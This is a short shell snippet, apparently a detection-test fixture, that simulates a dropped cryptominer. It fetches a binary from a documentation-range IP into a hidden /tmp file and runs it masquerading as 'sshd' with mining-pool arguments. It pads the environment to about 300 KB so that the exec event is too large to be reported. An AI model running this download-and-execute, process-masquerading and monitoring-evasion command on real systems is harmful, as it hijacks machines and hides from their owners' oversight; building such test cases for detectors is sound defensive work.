# a dropped miner whose exec is made too large to be sent: 3 x 100 KB of environment
#http 203.0.113.58:8009
#pool 198.51.100.66:443:hold
curl -so /tmp/.h http://203.0.113.58:8009/w && chmod +x /tmp/.h && timeout 20 python3 -c 'import os;b="x"*100000;os.execve("/tmp/.h",["sshd","-o","198.51.100.66:443","-u","x","-p","x"],{"A":b,"B":b,"C":b,"HWLOC_SYNTHETIC":"core:2 pu:1"})' >/dev/null
